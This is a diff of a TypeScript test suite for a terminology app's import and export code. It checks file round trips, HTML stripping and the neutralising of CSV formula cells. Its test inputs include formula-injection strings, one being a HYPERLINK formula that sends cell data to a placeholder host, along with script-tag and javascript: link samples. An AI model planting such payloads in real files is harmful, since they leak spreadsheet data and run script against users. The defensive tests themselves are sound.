@@ -1,14 +1,21 @@
+import type { UiLanguage } from '@terimce/contract/languages';
 import type { TermContent } from '@terimce/contract/term';
 import { fromEdgeTerm, termContentInput } from '@terimce/contract/term';
 import { CodedError } from '@terimce/core/coded-error';
 import { completeContent } from '@terimce/core/terms/term';
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { readCsv, writeCsv } from './csv-file.js';
+import { rowPreparer } from '../imports/prepare-row.js';
+import type { AdminTermRecord } from '../terms/admin-term.repository.js';
 import { cellList, cellText, csvCell, listCell } from './csv-text.js';
 import { type ExchangeRow, toExchangeRow } from './exchange-row.js';
+import { hasHtml, htmlToText } from './html-text.js';
 import { readJson, writeJson } from './json-file.js';
+import { type ExchangeFormat, readFile } from './read-file.js';
+import { tableContent } from './table-file.js';
 import { readTbx } from './tbx-read.js';
 import { writeTbx } from './tbx-write.js';
+import { termTable } from './term-table.js';
 
 const full: TermContent = completeContent({
   englishTerm: 'Heat & mass <transfer>',
@@ -44,7 +51,7 @@ const turkishOnly = completeContent({
   image: '/uploads/a.png',
 });
 
-async function* batch(rows: ExchangeRow[]) {
+async function* batch<T>(rows: T[]) {
   yield rows;
 }
 async function* bytes(text: string, size: number) {
@@ -62,9 +69,17 @@ const asContent = (row: unknown) => {
   return completeContent(termContentInput.parse(content));
 };
 
+/** Writes terms as the panel exports them, with all columns. */
+const table = (format: 'csv' | 'xlsx', language: UiLanguage) => (terms: TermContent[]) => {
+  const at = new Date('2026-11-20T09:00:00Z');
+  const records = terms.map((term, i) => ({ ...term, _id: String(i), createdAt: at }));
+  const batches = batch(records as unknown as AdminTermRecord[]);
+  const options = { language, categoryName: (slug: string) => slug };
+  return tableContent(termTable(batches, options), { format, language });
+};
+
 const formats: Record<string, Format> = {
   json: { write: writeJson, read: readJson },
-  csv: { write: writeCsv, read: readCsv },
   tbx: { write: writeTbx, read: readTbx },
 };
 interface Format {
@@ -89,13 +104,82 @@ describe.each(Object.entries(formats))('%s', (_, { write, read }) => {
   });
 });
 
+describe.each([
+  ['json', (terms: TermContent[]) => writeJson(batch(terms.map(toExchangeRow)))],
+  ['csv', table('csv', 'tr')],
+  ['csv', table('csv', 'en')],
+  ['xlsx', table('xlsx', 'tr')],
+  ['tbx', (terms: TermContent[]) => writeTbx(batch(terms.map(toExchangeRow)))],
+] as const)('a whole %s file', (format: ExchangeFormat, write) => {
+  it('is recognised, and keeps every field', async () => {
+    const file = write([full, turkishOnly]);
+    const pieces = (await collect<string | Buffer>(file)).map((piece) => Buffer.from(piece));
+    const { rows: read, ...facts } = await readFile(Buffer.concat(pieces), {}, 100);
+    expect(facts.format).toBe(format);
+    const prepare = rowPreparer(facts, { html: 'text', empty: 'keep' });
+    const terms = read.map((row) => {
+      const { id: _, ...term } = (prepare(row) as { term: { id?: string } }).term;
+      return term;
+    });
+    expect(terms.map(asContent)).toEqual([full, turkishOnly]);
+  });
+});
+
+describe('HTML in texts', () => {
+  it.each([
+    ['<p>Isı&nbsp;iletimi</p><p>ikinci</p>', 'Isı iletimi\nikinci'],
+    ['<ul><li>bir</li><li>iki</li></ul>', '- bir\n- iki'],
+    ['m<sup>2</sup>, CO<sub>2</sub>, x<sup>n</sup>', 'm², CO₂, xn'],
+    ['a<br/>b<script>alert(1)</script>', 'a\nb'],
+    ['<b>x</b> &lt; 5 &amp; <y> is kept', 'x < 5 & <y> is kept'],
+    ['<a href="javascript:x">bağ</a>', 'bağ'],
+  ])('turns %j into %j', (html, text) => {
+    expect(hasHtml(html)).toBe(true);
+    expect(htmlToText(html)).toBe(text);
+  });
+
+  it.each(['a < b and c > d', 'x <y> z', 'R&D', 'i<n; j>m', '5 &c'])('finds none in %j', (text) => {
+    expect(hasHtml(text)).toBe(false);
+  });
+});
+
 describe('CSV cells', () => {
   it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', "'=x", "''-x"])('neutralises %j', (text) => {
     expect(csvCell(text).replace(/^"/, '')).toMatch(/^'/);
     expect(cellText(`'${text}`)).toBe(text);
   });
 
-  it('leaves other text and numbers alone', () => {
+  it.each([
+    [';=1+1', "';'=1+1"],
+    ['a;=HYPERLINK("http://x/?"&A1,"b");', 'a;\'=HYPERLINK("http://x/?"&A1,"b");'],
+    ['a,@b', "a,'@b"],
+    ['a\t+1', "a\t'+1"],
+    ['a\r\n-1', "a\r'\n'-1"],
+    ['a; "=1', 'a;\' "=1'],
+    ['＝1+1', "'＝1+1"],
+    ['a;＋1', "a;'＋1"],
+    ['a;－1;＠b', "a;'－1;'＠b"],
+  ])('neutralises %j behind the separators of other locales', (text, safe) => {
+    const cell = csvCell(text);
+    const shown = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
+    expect(shown).toBe(safe);
+    expect(cellText(shown)).toBe(text);
+  });
+
+  it('reads back every text, and writes no cell that a spreadsheet takes for a formula', () => {
+    const characters = fc.constantFrom(...`=+-@;,\t\r\n'" ax＝`);
+    fc.assert(
+      fc.property(fc.string({ unit: characters, maxLength: 12 }), (text) => {
+        const cell = csvCell(text);
+        const plain = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
+        expect(cellText(plain)).toBe(text);
+        for (const part of plain.split(/[,;\t\r\n]/)) expect(part).not.toMatch(/^["\s]*[=+\-@＝]/);
+      }),
+      { numRuns: 5_000 },
+    );
+  });
+
+  it('does not change other text and numbers', () => {
     expect(csvCell("'tis")).toBe("'tis");
     expect(cellText("'tis")).toBe("'tis");
     expect(csvCell(-5)).toBe('-5');
@@ -110,7 +194,7 @@ describe('CSV cells', () => {
 describe('JSON', () => {
   const read = (text: string) => collect(readJson(bytes(text, 3)));
 
-  it('reads a bare list and a list behind other members', async () => {
+  it('reads a bare list, and a list after other fields', async () => {
     expect(await read(' [1, "a]", [2,{"b":"\\""}] ] ')).toEqual([1, 'a]', [2, { b: '"' }]]);
     expect(await read('{"dryRun": true, "terms": [{"a":1}], "x": [3]}')).toEqual([{ a: 1 }]);
   });
@@ -120,16 +204,15 @@ describe('JSON', () => {
   });
 });
 
-describe('text that is not UTF-8', () => {
+describe('text that is not UTF-8, in formats that are always UTF-8', () => {
   it.each([
-    ['CSV', readCsv, 'englishTerm,turkishTerm\r\nice,ýslak buz\r\n', 'IMPORT_FILE_INVALID'],
     ['JSON', readJson, '[{"turkishTerm":"ýslak buz"}]', 'INVALID_JSON'],
     ['TBX', readTbx, '<tbx><text>ý</text></tbx>', 'IMPORT_FILE_INVALID'],
   ])(
     'is refused in %s, rather than stored as replacement characters',
     async (_name, read, text, code) => {
       async function* windows1254() {
-        // ı has the byte there that ý has in Latin-1.
+        // ı in Windows-1254 is the byte that is ý in Latin-1.
         yield Buffer.from(text, 'latin1');
       }
       await expect(collect(read(windows1254()))).rejects.toMatchObject({ code });
@@ -140,7 +223,7 @@ describe('text that is not UTF-8', () => {
 describe('TBX', () => {
   const read = (text: string) => collect(readTbx(bytes(text, 50)));
 
-  it('reads the older version and takes further terms as keywords', async () => {
+  it('reads the older version and stores further terms as keywords', async () => {
     const old =
       '<martif type="TBX"><text><body><termEntry id="x"><descrip type="subjectField">civil</descrip><langSet xml:lang="en-GB"><tig><term>beam</term></tig><tig><term>girder</term></tig></langSet><langSet xml:lang="tr"><ntig><termGrp><term>kiriş</term></termGrp></ntig></langSet></termEntry></body></text></martif>';
     expect(await read(old)).toEqual([
